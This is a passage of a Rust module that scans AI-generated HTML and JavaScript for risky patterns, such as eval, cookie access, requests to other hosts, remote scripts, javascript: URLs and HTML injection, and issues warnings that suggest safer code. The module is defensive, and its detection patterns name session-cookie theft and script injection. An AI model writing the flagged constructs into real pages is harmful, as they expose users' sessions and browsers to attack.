//! Post-generation security scan: risky patterns in the web code the model wrote.
//!
//! Models copy snippets from anywhere, and a generated page runs in the user's browser (a
//! generated server or test on their machine), so wright reads the final files for patterns
//! that usually mean trouble: strings run as code, cookie access, requests to other sites, HTML
//! injection, scripts from other sites, `javascript:` URLs. Each can be legitimate, so findings
//! are warnings: narrated and listed in the build report, never a reason to fail a build.
//!
//! Matching is by regular expressions over lightly lexed copies of each file, of the same
//! length so offsets map back to lines: one with comments blanked (for rules that read string
//! contents, like URLs) and one with comments and string contents blanked (for the rest), so a
//! commented-out `eval(` or the word `eval(` inside a message does not count. It is not a
//! parser: it aims to be right on ordinary generated code and never to panic on anything else.

use crate::prompts::Lang;
use regex::bytes::Regex;
use std::ops::Range;
use std::path::Path;
use std::sync::LazyLock;

/// Larger files are skipped: generated code is small, and big files are vendored or data.
const MAX_FILE_BYTES: u64 = 1024 * 1024;
/// Bounds on the walk, so a huge or deep workspace cannot stall the end of a build.
const MAX_FILES: usize = 5000;
const MAX_DEPTH: usize = 24;
/// Past this many findings in one file (minified code) the rest are noise.
const MAX_PER_FILE: usize = 50;
const MAX_FINDINGS: usize = 500;
/// How far an expression (an `innerHTML` value, an object literal) is followed.
const MAX_EXPR: usize = 4000;

/// How much a finding matters; the order is the sort order of a report.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    Low,
    Medium,
    High,
}

impl Severity {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
        }
    }
}

/// The patterns the scan knows; [`Rule::id`] is the stable name events and reports use.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Rule {
    /// `eval(…)`, `window.eval(…)`.
    Eval,
    /// `new Function(…)`, `Function(…)`.
    NewFunction,
    /// `setTimeout("…")`, `setInterval('…')`: a string argument is run as code.
    StringTimer,
    /// `document.cookie`, read or written.
    DocumentCookie,
    /// fetch, XMLHttpRequest, axios, jQuery, sendBeacon, WebSocket, EventSource to another host.
    ExternalRequest,
    /// `<script src>` or an ES `import` from another host.
    ExternalScript,
    /// `javascript:` URLs in attributes or strings.
    JavascriptUrl,
    /// `document.write(…)`, `document.writeln(…)`.
    DocumentWrite,
    /// HTML with `on…=`, `<script` or `javascript:` put into the page through innerHTML & co.
    InlineHandler,
    /// innerHTML & co. set from something other than fixed text.
    PossibleInjection,
}

impl Rule {
    pub const ALL: [Rule; 10] = [
        Rule::Eval,
        Rule::NewFunction,
        Rule::StringTimer,
        Rule::DocumentCookie,
        Rule::ExternalRequest,
        Rule::ExternalScript,
        Rule::JavascriptUrl,
        Rule::DocumentWrite,
        Rule::InlineHandler,
        Rule::PossibleInjection,
    ];

    pub fn id(self) -> &'static str {
        match self {
            Self::Eval => "eval",
            Self::NewFunction => "new-function",
            Self::StringTimer => "string-timer",
            Self::DocumentCookie => "document-cookie",
            Self::ExternalRequest => "external-request",
            Self::ExternalScript => "external-script",
            Self::JavascriptUrl => "javascript-url",
            Self::DocumentWrite => "document-write",
            Self::InlineHandler => "inline-handler",
            Self::PossibleInjection => "possible-injection",
        }
    }

    pub fn severity(self) -> Severity {
        match self {
            Self::Eval | Self::NewFunction | Self::StringTimer => Severity::High,
            Self::DocumentCookie
            | Self::ExternalRequest
            | Self::ExternalScript
            | Self::JavascriptUrl
            | Self::DocumentWrite
            | Self::InlineHandler => Severity::Medium,
            Self::PossibleInjection => Severity::Low,
        }
    }

    /// What the pattern means and what to do instead, in plain words. `detail` is the other
    /// site's host for the `external-*` rules and the property for `possible-injection`.
    pub fn describe(self, lang: Lang, detail: Option<&str>) -> String {
        let host = detail.unwrap_or("?");
        let what = detail.unwrap_or("innerHTML");
        match (lang, self) {
            (Lang::En, Self::Eval) => "eval() runs a string as code; if any part of it comes from a user or the network, someone else's code runs in this page. Use JSON.parse or ordinary functions instead.".into(),
            (Lang::Pt, Self::Eval) => "eval() executa um texto como código; se alguma parte dele vier do usuário ou da rede, código de outra pessoa roda nesta página. Use JSON.parse ou funções comuns.".into(),
            (Lang::En, Self::NewFunction) => "new Function(...) turns a string into code, the same risk as eval(). Write the function directly.".into(),
            (Lang::Pt, Self::NewFunction) => "new Function(...) transforma um texto em código, o mesmo risco do eval(). Escreva a função diretamente.".into(),
            (Lang::En, Self::StringTimer) => "setTimeout/setInterval with a string runs that string as code, like eval(). Pass a function instead.".into(),
            (Lang::Pt, Self::StringTimer) => "setTimeout/setInterval com um texto executa esse texto como código, como o eval(). Passe uma função.".into(),
            (Lang::En, Self::DocumentCookie) => "uses document.cookie; cookies often hold login sessions, and scripts that read them are how sessions get stolen. Keep app data in localStorage and session cookies HttpOnly.".into(),
            (Lang::Pt, Self::DocumentCookie) => "usa document.cookie; cookies costumam guardar sessões de login, e scripts que os leem são o caminho para roubá-las. Guarde dados do app no localStorage e cookies de sessão como HttpOnly.".into(),
            (Lang::En, Self::ExternalRequest) => format!("sends a request to another site ({host}); what it sends leaves the user's machine, and the app depends on that site. Prefer the app's own server (a relative URL like /api/...)."),
            (Lang::Pt, Self::ExternalRequest) => format!("envia uma requisição para outro site ({host}); o que ela leva sai da máquina do usuário, e o app passa a depender desse site. Prefira o servidor do próprio app (uma URL relativa como /api/...)."),
            (Lang::En, Self::ExternalScript) => format!("loads code from another site ({host}); that site can run anything in this page. Keep a local copy, or pin it with an integrity= hash."),
            (Lang::Pt, Self::ExternalScript) => format!("carrega código de outro site ({host}); esse site pode executar qualquer coisa nesta página. Guarde uma cópia local, ou fixe-a com um hash integrity=."),
            (Lang::En, Self::JavascriptUrl) => "a javascript: URL runs code from a link or attribute; use a button with addEventListener instead.".into(),
            (Lang::Pt, Self::JavascriptUrl) => "uma URL javascript: executa código a partir de um link ou atributo; use um botão com addEventListener.".into(),
            (Lang::En, Self::DocumentWrite) => "document.write() writes raw HTML into the page; with any outside data that can inject scripts. Create elements and set textContent instead.".into(),
            (Lang::Pt, Self::DocumentWrite) => "document.write() escreve HTML cru na página; com dados de fora isso pode injetar scripts. Crie elementos e use textContent.".into(),
            (Lang::En, Self::InlineHandler) => "inserts HTML that carries an inline event handler or a script (onclick=, <script>, javascript:); with outside data this is how script injection happens. Attach handlers with addEventListener.".into(),
            (Lang::Pt, Self::InlineHandler) => "insere HTML com um manipulador de evento inline ou um script (onclick=, <script>, javascript:); com dados de fora é assim que acontece injeção de script. Use addEventListener.".into(),
            (Lang::En, Self::PossibleInjection) => format!("possible injection: {what} is set from values that are not fixed text; if one of them comes from a user or the network it can run scripts. Use textContent, or escape the values first."),
            (Lang::Pt, Self::PossibleInjection) => format!("possível injeção: {what} recebe valores que não são texto fixo; se algum vier do usuário ou da rede, pode executar scripts. Use textContent, ou escape os valores antes."),
        }
    }
}

/// One risky spot in one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Relative to the project root, `/`-separated.
    pub file: String,
    /// 1-based.
    pub line: usize,
    pub rule: Rule,
    /// The other site's host (`external-*`), or the property (`possible-injection`).
    pub detail: Option<String>,
    /// The source line, trimmed and shortened, so a reader sees the spot without opening it.
    pub snippet: String,
}

impl Finding {
    pub fn severity(&self) -> Severity {
        self.rule.severity()
    }

    pub fn message(&self, lang: Lang) -> String {
        self.rule.describe(lang, self.detail.as_deref())
    }

    /// One line for a `status` event: where, which rule, what it means.
    pub fn narration(&self, lang: Lang) -> String {
        let lead = match lang {
            Lang::En => "Security warning",
            Lang::Pt => "Aviso de segurança",
        };
        format!("{lead}: {}:{} [{}] {}", self.file, self.line, self.rule.id(), self.message(lang))
    }
}

/// The result of scanning a project.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScanReport {
    /// Files read (web code only), so a report can say "none found in N files".
    pub files_scanned: usize,
    /// Sorted by file, then line.
    pub findings: Vec<Finding>,
}

/// Scan the web code under `root`: `.html .htm .js .mjs .cjs .jsx .ts .tsx` files, skipping
/// `node_modules`, folders whose name starts with a dot, symbolic links and files over 1 MiB.
pub fn scan_project(root: &Path) -> ScanReport {
    scan_project_except(root, &[])
}

/// [`scan_project`] without the folders in `skip` (relative to `root`): the output of a build
/// step (`dist/`) is the bundler's and the libraries' code, not the project's.
pub fn scan_project_except(root: &Path, skip: &[&str]) -> ScanReport {
    let mut report = ScanReport::default();
    // Walked and read through the folder's descriptor: the files are the generated code's, and
    // one swapped for a link mid-scan is passed over, never followed.
    let Ok(dir) = wright_sandbox::Dir::open(root) else { return report };
    let enter = |name: &str| !name.starts_with('.') && name != "node_modules";
    let Ok(entries) = dir.walk(&enter) else { return report };
    let files = entries
        .into_iter()
        .filter(|e| e.path.split('/').count() <= MAX_DEPTH + 1)
        .filter(|e| e.kind == wright_sandbox::EntryKind::File && e.len <= MAX_FILE_BYTES)
        .filter(|e| {
            let name = e.path.rsplit('/').next().unwrap_or(&e.path);
            is_scanned(name) && !name.contains(".wright-tmp-")
        })
        .filter(|e| !skip.iter().any(|d| e.path.starts_with(&format!("{d}/"))))
        .take(MAX_FILES);
    for e in files {
        let Ok(bytes) = dir.read(&e.path) else { continue };
        report.files_scanned += 1;
        report.findings.extend(scan_bytes(&e.path, &bytes));
        if report.findings.len() >= MAX_FINDINGS {
            report.findings.truncate(MAX_FINDINGS);
            break;
        }
    }
    report
}

/// Scan one file's text; `path` picks the language by its extension (others give nothing).
pub fn scan_text(path: &str, text: &str) -> Vec<Finding> {
    scan_bytes(path, text.as_bytes())
}

fn is_scanned(name: &str) -> bool {
    kind_of(name).is_some()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Html,
    Js,
}

fn kind_of(path: &str) -> Option<Kind> {
    let ext = path.rsplit_once('.')?.1.to_ascii_lowercase();
    match ext.as_str() {
        "html" | "htm" => Some(Kind::Html),
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "tsx" => Some(Kind::Js),
        _ => None,
    }
}

/// A match before it has a line number.
struct Hit {
    at: usize,
    rule: Rule,
    detail: Option<String>,
}

impl Hit {
    fn new(at: usize, rule: Rule) -> Self {
        Self { at, rule, detail: None }
    }
}

fn scan_bytes(path: &str, src: &[u8]) -> Vec<Finding> {
    let mut hits = Vec::new();
    match kind_of(path) {
        Some(Kind::Html) => scan_html(src, &mut hits),
        Some(Kind::Js) => {
            let mut views = Views::blank(src);
            views.lex_js(src, 0..src.len());
            scan_js(&views, &mut hits);
        }
        None => return Vec::new(),
    }
    let newlines: Vec<usize> = src.iter().enumerate().filter(|(_, b)| **b == b'\n').map(|(i, _)| i).collect();
    let mut findings: Vec<Finding> = Vec::new();
    hits.sort_by_key(|h| (h.at, h.rule));
    for h in hits {
        let line = newlines.partition_point(|&p| p < h.at) + 1;
        if findings.iter().any(|f| f.line == line && f.rule == h.rule) {
            continue;
        }
        let start = if line == 1 { 0 } else { newlines.get(line - 2).map_or(0, |p| p + 1) };
        let end = newlines.get(line - 1).copied().unwrap_or(src.len());
        let text = String::from_utf8_lossy(src.get(start..end).unwrap_or_default());
        findings.push(Finding {
            file: path.to_string(),
            line,
            rule: h.rule,
            detail: h.detail,
            snippet: short(text.trim(), 120),
        });
        if findings.len() >= MAX_PER_FILE {
            break;
        }
    }
    findings.sort_by_key(|f| (f.line, f.rule));
    findings
}

/// At most `max` characters of `s`, with `…` when cut.
fn short(s: &str, max: usize) -> String {
    let kept = wright_text::head(s, max, wright_text::Unit::Chars);
    if kept.len() == s.len() { s.to_string() } else { format!("{kept}…") }
}

/// Two copies of a file, byte for byte the same length as it: `plain` has comments blanked,
/// `code` also has the contents of strings, template text and regex literals blanked (the
/// delimiters stay, so "a string starts here" is still visible). Newlines always stay.
struct Views {
    plain: Vec<u8>,
    code: Vec<u8>,
}

fn blank(buf: &mut [u8], i: usize) {
    if let Some(b) = buf.get_mut(i) {
        if *b != b'\n' {
            *b = b' ';
        }
    }
}

impl Views {
    /// All blank: only what is copied in and lexed later counts (HTML uses this for scripts).
    fn blank(src: &[u8]) -> Self {
        let blanked: Vec<u8> = src.iter().map(|&b| if b == b'\n' { b'\n' } else { b' ' }).collect();
        Self { plain: blanked.clone(), code: blanked }
    }

    /// Copy `range` of `src` in as JavaScript and blank its comments and literals.
    fn lex_js(&mut self, src: &[u8], range: Range<usize>) {
        #[derive(Clone, Copy)]
        enum St {
            Code,
            Line,
            Block,
            Str(u8),
            Tpl,
            Re { class: bool },
        }
        let Range { start, end } = range;
        let end = end.min(src.len());
        if start >= end {
            return;
        }
        self.plain[start..end].copy_from_slice(&src[start..end]);
        self.code[start..end].copy_from_slice(&src[start..end]);
        let mut st = St::Code;
        // Open braces inside each `${` we are in, to know which `}` goes back to template text.
        let mut tpl: Vec<u32> = Vec::new();
        let mut i = start;
        while i < end {
            let c = src[i];
            let next = if i + 1 < end { src[i + 1] } else { 0 };
            match st {
                St::Code => match c {
                    b'/' if next == b'/' => {
                        st = St::Line;
                        self.blank_both(i);
                    }
                    b'/' if next == b'*' => {
                        st = St::Block;
                        self.blank_both(i);
                        self.blank_both(i + 1);
                        i += 2;
                        continue;
                    }
                    b'/' if regex_may_start(&self.code, start, i) => st = St::Re { class: false },
                    b'\'' | b'"' => st = St::Str(c),
                    b'`' => st = St::Tpl,
                    b'{' => {
                        if let Some(t) = tpl.last_mut() {
                            *t += 1;
                        }
                    }
                    b'}' => match tpl.last_mut() {
                        Some(0) => {
                            tpl.pop();
                            st = St::Tpl;
                        }
                        Some(t) => *t -= 1,
                        None => {}
                    },
                    _ => {}
                },
                St::Line => {
                    if c == b'\n' {
                        st = St::Code;
                    } else {
                        self.blank_both(i);
                    }
                }
                St::Block => {
                    self.blank_both(i);
                    if c == b'*' && next == b'/' {
                        self.blank_both(i + 1);
                        st = St::Code;
                        i += 2;
                        continue;
                    }
                }
                St::Str(q) => {
                    if c == b'\\' && i + 1 < end {
                        blank(&mut self.code, i);
                        blank(&mut self.code, i + 1);
                        i += 2;
                        continue;
                    }
                    // An unterminated string ends at the line's end, as JavaScript says.
                    if c == q || c == b'\n' {
                        st = St::Code;
                    } else {
                        blank(&mut self.code, i);
                    }
                }
                St::Tpl => {
                    if c == b'\\' && i + 1 < end {
                        blank(&mut self.code, i);
                        blank(&mut self.code, i + 1);
                        i += 2;
                        continue;
                    }
                    if c == b'`' {
                        st = St::Code;
                    } else if c == b'$' && next == b'{' {
                        tpl.push(0);
                        st = St::Code;
                        i += 2;
                        continue;
                    } else {
                        blank(&mut self.code, i);
                    }
                }
                St::Re { class } => {
                    if c == b'\\' && i + 1 < end {
                        blank(&mut self.code, i);
                        blank(&mut self.code, i + 1);
                        i += 2;
                        continue;
                    }
                    if c == b'\n' {
                        // Not a regex after all (a division we misread); resume as code.
                        st = St::Code;
                    } else if class {
                        if c == b']' {
                            st = St::Re { class: false };
                        }
                        blank(&mut self.code, i);
                    } else if c == b'/' {
                        st = St::Code;
                    } else {
                        if c == b'[' {
                            st = St::Re { class: true };
                        }
                        blank(&mut self.code, i);
                    }
                }
            }
            i += 1;
        }
    }

    fn blank_both(&mut self, i: usize) {
        blank(&mut self.plain, i);
        blank(&mut self.code, i);
    }
}

/// Whether a `/` at `i` starts a regex literal rather than a division, judged by the code
/// before it (the usual heuristic: after an operator, an opening bracket or a keyword).
fn regex_may_start(code: &[u8], start: usize, i: usize) -> bool {
    let mut j = i;
    while j > start && code[j - 1].is_ascii_whitespace() {
        j -= 1;
    }
    if j == start {
        return true;
    }
    let p = code[j - 1];
    if b"(,=:[!&|?{};+-*%<>~^".contains(&p) || p == b'}' {
        return true;
    }
    if is_ident(p) {
        let mut k = j - 1;
        while k > start && is_ident(code[k - 1]) {
            k -= 1;
        }
        let word = &code[k..j];
        return [
            &b"return"[..],
            b"typeof",
            b"instanceof",
            b"in",
            b"of",
            b"new",
            b"delete",
            b"void",
            b"throw",
            b"case",
            b"do",
            b"else",
            b"yield",
            b"await",
        ]
        .contains(&word);
    }
    false
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b >= 0x80
}

/// A fixed pattern compiled once. `None` only if the literal were invalid, which the
/// `every_pattern_compiles` test rules out; matching then finds nothing rather than panicking.
type Pattern = LazyLock<Option<Regex>>;

macro_rules! pattern {
    ($re:expr) => {
        LazyLock::new(|| Regex::new($re).ok())
    };
}

/// What may stand before a global function's name: not part of a name, not a member access
/// (`obj.eval(` is someone's method), except on the global object itself.
macro_rules! global {
    ($name:expr) => {
        concat!(r"(?m)(?:^|[^\w$.]|\b(?:window|globalThis|self)\s*\.\s*)(", $name, r")\s*\(")
    };
}

static EVAL: Pattern = pattern!(global!("eval"));
static NEW_FUNCTION: Pattern = pattern!(global!(r"(?:new\s+)?Function"));
/// On the code view a string argument shows as its opening quote.
static STRING_TIMER: Pattern = pattern!(concat!(
    r"(?m)(?:^|[^\w$.]|\b(?:window|globalThis|self)\s*\.\s*)(setTimeout|setInterval)\s*\(\s*",
    "[\"'`]"
));
static COOKIE: Pattern = pattern!(r"(?m)(?:^|[^\w$.])(document)\s*\.\s*cookie\b");
static DOC_WRITE: Pattern = pattern!(r"(?m)(?:^|[^\w$.])(document)\s*\.\s*write(?:ln)?\s*\(");
/// A string that is a `javascript:` URL with something after the colon (a bare
/// `'javascript:'` is usually a sanitiser checking for it).
static JS_URL_STRING: Pattern = pattern!(r#"(?i)["'`]\s*(javascript):\s*[^\s"'`]"#);
/// Calls whose first argument is where a request goes.
static NET_CALL: Pattern = pattern!(global!(
    r"fetch|axios(?:\s*\.\s*(?:get|post|put|patch|delete|head|options|request|create))?|\$\s*\.\s*(?:get|post|getJSON|ajax)|navigator\s*\.\s*sendBeacon|new\s+(?:WebSocket|EventSource)"
));
/// `xhr.open('GET', url`: the method's contents are blanked in the code view.
static XHR_OPEN: Pattern = pattern!(r#"\.\s*(open)\s*\(\s*["'`]\s*["'`]\s*,"#);
static IMPORT: Pattern = pattern!(r#"(?m)(?:^|[^\w$.])(import)\s*(?:\(\s*|[\w$*{},\s]*?\bfrom\s*)?["']"#);
static OBJECT_URL_KEY: Pattern = pattern!(r"(?m)(?:^|[^\w$.])(?:url|baseURL)\s*:");
/// `el.innerHTML = ` or `+=`; the next byte is checked separately so `==` is not an assignment.
static INNER_HTML: Pattern = pattern!(r"\.\s*(innerHTML|outerHTML)\s*(\+?=)");
static ADJACENT_HTML: Pattern = pattern!(r"\.\s*(insertAdjacentHTML)\s*\(");
static DANGEROUS_INNER: Pattern = pattern!(r"\b(dangerouslySetInnerHTML)\b");
/// Markup that runs code once it is in the page.
static ACTIVE_MARKUP: Pattern = pattern!(r"(?i)<script\b|<[^>]*\son[a-z]+\s*=|javascript:");
static SCRIPT_OPEN: Pattern = pattern!(r"(?i)^<script(?:\s|>|/)");
static SCRIPT_SRC: Pattern = pattern!(r#"(?i)\s(src)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))"#);
static HTML_JS_URL: Pattern =
    pattern!(r#"(?i)\s(?:href|src|action|formaction|xlink:href|data)\s*=\s*["']?\s*(javascript):"#);
static HANDLER_ATTR: Pattern = pattern!(r#"(?i)\s(on[a-z]+)\s*=\s*(?:"([^"]*)"|'([^']*)')"#);

/// Every fixed pattern, for the compile test.
#[cfg(test)]
fn all_patterns() -> Vec<&'static Pattern> {
    vec![
        &EVAL,
        &NEW_FUNCTION,
        &STRING_TIMER,
        &COOKIE,
        &DOC_WRITE,
        &JS_URL_STRING,
        &NET_CALL,
        &XHR_OPEN,
        &IMPORT,
        &OBJECT_URL_KEY,
        &INNER_HTML,
        &ADJACENT_HTML,
        &DANGEROUS_INNER,
        &ACTIVE_MARKUP,
        &SCRIPT_OPEN,
        &SCRIPT_SRC,
        &HTML_JS_URL,
        &HANDLER_ATTR,
    ]
}

/// Capture groups 1.. of every match (the first group that took part gives the position).
fn each<'h>(p: &Pattern, hay: &'h [u8]) -> impl Iterator<Item = regex::bytes::Captures<'h>> {
    p.as_ref().into_iter().flat_map(move |re| re.captures_iter(hay))
}

fn group_start(c: &regex::bytes::Captures<'_>) -> usize {
    c.get(1).or_else(|| c.get(0)).map_or(0, |m| m.start())
}

fn group_end(c: &regex::bytes::Captures<'_>) -> usize {
    c.get(0).map_or(0, |m| m.end())
}

fn scan_js(v: &Views, hits: &mut Vec<Hit>) {
    let (plain, code) = (v.plain.as_slice(), v.code.as_slice());
    for (p, rule) in [
        (&EVAL, Rule::Eval),
        (&NEW_FUNCTION, Rule::NewFunction),
        (&STRING_TIMER, Rule::StringTimer),
        (&COOKIE, Rule::DocumentCookie),
        (&DOC_WRITE, Rule::DocumentWrite),
    ] {
        hits.extend(each(p, code).map(|c| Hit::new(group_start(&c), rule)));
    }
    hits.extend(each(&JS_URL_STRING, plain).map(|c| Hit::new(group_start(&c), Rule::JavascriptUrl)));

    for c in each(&NET_CALL, code).take(200) {
        if let Some(host) = request_host(plain, code, group_end(&c), 0) {
            hits.push(Hit { at: group_start(&c), rule: Rule::ExternalRequest, detail: Some(host) });
        }
    }
    if contains(code, b"XMLHttpRequest") {
        for c in each(&XHR_OPEN, code).take(200) {
            if let Some(host) = request_host(plain, code, group_end(&c), 0) {
                hits.push(Hit { at: group_start(&c), rule: Rule::ExternalRequest, detail: Some(host) });
            }
        }
    }
    for c in each(&IMPORT, code).take(200) {
        // The match ends just past the opening quote of the module specifier.
        let quote = group_end(&c).saturating_sub(1);
        if let Some(host) = external_host(&literal_text(plain, quote)) {
            hits.push(Hit { at: group_start(&c), rule: Rule::ExternalScript, detail: Some(host) });
        }
    }

    for c in each(&INNER_HTML, code) {
        let (Some(prop), Some(op)) = (c.get(1), c.get(2)) else { continue };
        if code.get(op.end()) == Some(&b'=') {
            continue;
        }
        if let Some(rule) = html_value_rule(plain, code, op.end()) {
            hits.push(html_hit(prop.start(), rule, prop.as_bytes()));
        }
    }
    for c in each(&ADJACENT_HTML, code) {
        let Some(prop) = c.get(1) else { continue };
        let first_end = expression_end(code, group_end(&c));
        if code.get(first_end) != Some(&b',') {
            continue;
        }
        if let Some(rule) = html_value_rule(plain, code, first_end + 1) {
            hits.push(html_hit(prop.start(), rule, prop.as_bytes()));
        }
    }
    for c in each(&DANGEROUS_INNER, code) {
        hits.push(html_hit(group_start(&c), Rule::PossibleInjection, b"dangerouslySetInnerHTML"));
    }
}

fn html_hit(at: usize, rule: Rule, prop: &[u8]) -> Hit {
    let detail = (rule == Rule::PossibleInjection).then(|| String::from_utf8_lossy(prop).into_owned());
    Hit { at, rule, detail }
}

fn scan_html(src: &[u8], hits: &mut Vec<Hit>) {
    // `markup` is the page with comments and script bodies blanked; `js` holds only the script
    // bodies and inline handler values, lexed as JavaScript.
    let mut markup = src.to_vec();
    let mut js = Views::blank(src);
    let mut script_tags: Vec<Range<usize>> = Vec::new();
    let n = src.len();
    let mut i = 0;
    while i < n {
        let rest = &src[i..];
        if rest.starts_with(b"<!--") {
            let end = find(src, i + 4, b"-->").map_or(n, |e| e + 3);
            (i..end).for_each(|k| blank(&mut markup, k));
            i = end;
            continue;
        }
        if rest.first() == Some(&b'<') && SCRIPT_OPEN.as_ref().is_some_and(|re| re.is_match(&rest[..rest.len().min(8)]))
        {
            let tag_end = find(src, i, b">").map_or(n, |e| e + 1);
            let close = find_ci(src, tag_end, b"</script").unwrap_or(n);
            script_tags.push(i..tag_end);
            (tag_end..close).for_each(|k| blank(&mut markup, k));
            js.lex_js(src, tag_end..close);
            i = close.max(i + 1);
            continue;
        }
        i += 1;
    }

    for c in each(&HANDLER_ATTR, &markup) {
        if let Some(value) = c.get(2).or_else(|| c.get(3)) {
            js.lex_js(src, value.range());
        }
    }
    for c in each(&HTML_JS_URL, &markup) {
        hits.push(Hit::new(group_start(&c), Rule::JavascriptUrl));
    }
    for tag in script_tags {
        let Some(text) = markup.get(tag.clone()) else { continue };
        for c in each(&SCRIPT_SRC, text) {
            let Some(url) = c.get(2).or_else(|| c.get(3)).or_else(|| c.get(4)) else { continue };
            if let Some(host) = external_host(&String::from_utf8_lossy(url.as_bytes())) {
                hits.push(Hit { at: tag.start + group_start(&c), rule: Rule::ExternalScript, detail: Some(host) });
            }
        }
    }
    scan_js(&js, hits);
}

fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?.windows(needle.len()).position(|w| w == needle).map(|p| p + from)
}

fn find_ci(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle)).map(|p| p + from)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    find(hay, 0, needle).is_some()
}

fn skip_ws(code: &[u8], mut i: usize) -> usize {
    while code.get(i).is_some_and(u8::is_ascii_whitespace) {
        i += 1;
    }
    i
}

/// The text of the string literal whose opening quote is at `quote`, up to its end (or, in a
/// template, up to the first `${`).
fn literal_text(plain: &[u8], quote: usize) -> String {
    let Some(&q) = plain.get(quote) else { return String::new() };
    let mut j = quote + 1;
    let limit = (quote + 2048).min(plain.len());
    while j < limit {
        let c = plain[j];
        if c == q || (q != b'`' && c == b'\n') || (q == b'`' && c == b'$' && plain.get(j + 1) == Some(&b'{')) {
            break;
        }
        j += if c == b'\\' { 2 } else { 1 };
    }
    String::from_utf8_lossy(plain.get(quote + 1..j.min(limit)).unwrap_or_default()).into_owned()
}

/// Where a request goes, when the argument at `pos` says so and it is another site: a string
/// literal, a template starting with a known constant, a `{ url: … }` / `{ baseURL: … }`
/// options object, or a name assigned a string literal somewhere in the same file.
fn request_host(plain: &[u8], code: &[u8], pos: usize, depth: u8) -> Option<String> {
    let i = skip_ws(code, pos);
    match *code.get(i)? {
        b'`' if code.get(i + 1..i + 3) == Some(b"${") => {
            let name = ident_at(code, skip_ws(code, i + 3))?;
            constant_host(plain, code, &name)
        }
        b'\'' | b'"' | b'`' => external_host(&literal_text(plain, i)),
        b'{' if depth == 0 => {
            let inside = code.get(i..closing_bracket(code, i))?;
            each(&OBJECT_URL_KEY, inside).find_map(|c| request_host(plain, code, i + group_end(&c), depth + 1))
        }
        c if is_ident(c) && !c.is_ascii_digit() => {
            let name = ident_at(code, i)?;
            constant_host(plain, code, &name)
        }
        _ => None,
    }
}

/// The last name of a member chain starting at `i` (`config.api.base` → `base`); `None` when
/// the chain is called (`getUrl()`), since what a function returns is not known here.
fn ident_at(code: &[u8], i: usize) -> Option<String> {
    let mut j = i;
    let last = loop {
        let seg = j;
        while code.get(j).is_some_and(|&b| is_ident(b)) {
            j += 1;
        }
        if j == seg {
            return None;
        }
        let k = skip_ws(code, j);
        if code.get(k) != Some(&b'.') {
            break seg;
        }
        j = skip_ws(code, k + 1);
    };
    if code.get(skip_ws(code, j)) == Some(&b'(') {
        return None;
    }
    Some(String::from_utf8_lossy(&code[last..j]).into_owned())
}

/// The other host in a string literal assigned to `name` (`const API = '…'`, `api: '…'`).
fn constant_host(plain: &[u8], code: &[u8], name: &str) -> Option<String> {
    let re = Regex::new(&format!(r"(?m)(?:^|[^\w$.]){}\s*[:=]", regex::escape(name))).ok()?;
    re.find_iter(code).take(50).find_map(|m| {
        if code.get(m.end()) == Some(&b'=') {
            return None;
        }
        let v = skip_ws(code, m.end());
        match code.get(v) {
            Some(b'\'' | b'"' | b'`') => external_host(&literal_text(plain, v)),
            _ => None,
        }
    })
}

/// The host of an absolute `http(s)`/`ws(s)` or protocol-relative URL when it is not this
/// machine; `None` for relative, local and not-yet-known (`https://${host}`) URLs.
fn external_host(url: &str) -> Option<String> {
    let t = url.trim();
    let lower = t.to_ascii_lowercase();
    let rest = ["http://", "https://", "ws://", "wss://", "//"]
        .iter()
        .find(|s| lower.starts_with(**s))
        .map(|s| &lower[s.len()..])?;
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split_inclusive(']').next().unwrap_or(host_port)
    } else {
        host_port.split(':').next().unwrap_or(host_port)
    };
    let host = host.trim_end_matches('.');
    let dynamic = host.is_empty() || host.contains(['$', '{', '}', ' ', '+', '\'', '"', '`', '<', '>']);
    let local = matches!(host, "localhost" | "[::1]" | "0.0.0.0")
        || host.ends_with(".localhost")
        || (host.starts_with("127.") && host.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
    (!dynamic && !local).then(|| host.to_string())
}

/// Where the bracket opened at `open` closes (or how far it is followed).
fn closing_bracket(code: &[u8], open: usize) -> usize {
    let limit = open.saturating_add(MAX_EXPR).min(code.len());
    let mut depth = 0u32;
    for (i, &b) in code.iter().enumerate().take(limit).skip(open) {
        match b {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
    }
    limit
}

/// Where the expression starting at `start` ends: a `;` or `,` at its own level, a closing
/// bracket it did not open, or a line break after which it cannot go on.
fn expression_end(code: &[u8], start: usize) -> usize {
    let limit = start.saturating_add(MAX_EXPR).min(code.len());
    let mut depth = 0u32;
    let mut in_template = false;
    let mut i = start;
    while i < limit {
        match code[i] {
            b'`' => in_template = !in_template,
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => {
                if depth == 0 {
                    return i;
                }
                depth -= 1;
            }
            b';' | b',' if depth == 0 && !in_template => return i,
            b'\n' if depth == 0 && !in_template => {
                let before = code[start..i].trim_ascii();
                let continued = before.last().is_some_and(|b| b"+(,?:=|&".contains(b));
                let next = code.get(skip_ws(code, i));
                let continues = next.is_some_and(|b| b"+.?:".contains(b));
                if !before.is_empty() && !continued && !continues {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    limit
}

/// What putting the value at `start` into the page as HTML amounts to: nothing for fixed text
